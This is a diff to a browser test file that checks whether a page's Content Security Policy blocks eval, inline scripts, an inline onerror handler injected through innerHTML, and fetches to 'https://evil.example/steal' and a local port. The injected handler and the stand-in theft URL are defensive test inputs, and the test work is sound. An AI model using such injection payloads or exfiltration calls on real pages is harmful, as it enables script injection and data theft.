@@ -33,22 +33,28 @@ test('the page has one bridge that carries messages, and nothing else of the mac
 
 test('the policy of the page runs no text as code and connects to nowhere', async ({ panel, emcee }) => {
   await expect(card(panel, 'Emcee is on')).toBeVisible();
-  emcee.watch.expect(/Content Security Policy|content security policy/);
+  emcee.watch.expect(/Content Security Policy|content security policy|^Failed to load resource/);
   emcee.watch.expect(/^asked for https:\/\/evil\.example/);
   const tried = await panel.evaluate(async () => {
     const marks: string[] = [];
     Object.assign(window, { mark: (name: string) => marks.push(name) });
-    try {
-      // biome-ignore lint/security/noGlobalEval: that is what must not work
-      marks.push(`eval ${globalThis.eval('1 + 1')}`);
-    } catch {
-      marks.push('no eval');
-    }
+    // Later, since what a test runs in the page is above its policy.
+    await new Promise<void>((resolve) => {
+      setTimeout(() => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: that is what must not work
+          marks.push(`eval ${globalThis.eval('1 + 1')}`);
+        } catch {
+          marks.push('no eval');
+        }
+        resolve();
+      });
+    });
     const script = document.createElement('script');
     script.textContent = "window.mark('inline script')";
     document.body.append(script);
     const image = document.createElement('div');
-    image.innerHTML = '<img src="x:" onerror="window.mark(\'inline handler\')">';
+    image.innerHTML = '<img src="/nothing.png" onerror="window.mark(\'inline handler\')">';
     document.body.append(image);
     for (const url of ['https://evil.example/steal', 'http://127.0.0.1:1/']) {
       await fetch(url).then(
